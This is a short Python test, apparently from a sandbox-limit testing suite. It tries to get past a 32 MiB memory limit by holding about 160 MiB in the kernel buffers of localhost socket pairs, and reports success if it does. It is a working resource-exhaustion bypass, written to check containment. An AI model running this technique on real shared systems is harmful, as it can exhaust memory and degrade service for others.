"""More memory than the limit, in the buffers of sockets"""

import socket
import time

from attack import Host, Setup, won
from attack import Trick as Base

LIMIT, WANTED = 32 << 20, 160 << 20


class Trick(Base):
    area = "bombs"

    def prepare(self, host: Host) -> Setup:
        setup = Setup()
        setup.limits["memory"] = str(LIMIT)
        return setup

    def inside(self) -> None:
        held, pairs, block = 0, [], bytes(1 << 20)
        with socket.create_server(("127.0.0.1", 0)) as listener:
            try:
                while held < WANTED and len(pairs) < 450:
                    sender = socket.create_connection(listener.getsockname())
                    pairs.append((sender, listener.accept()[0]))
                    for end, size in ((sender, socket.SO_SNDBUF), (pairs[-1][1], socket.SO_RCVBUF)):
                        end.setsockopt(socket.SOL_SOCKET, size, 8 << 20)
                    sender.setblocking(False)
                    try:
                        while True:
                            held += sender.send(block)
                    except BlockingIOError:
                        pass
            except OSError as error:
                print(held >> 20, "MiB", error)
        time.sleep(5)
        if held >= WANTED:
            won(f"{held >> 20} MiB under a limit of {LIMIT >> 20} MiB")
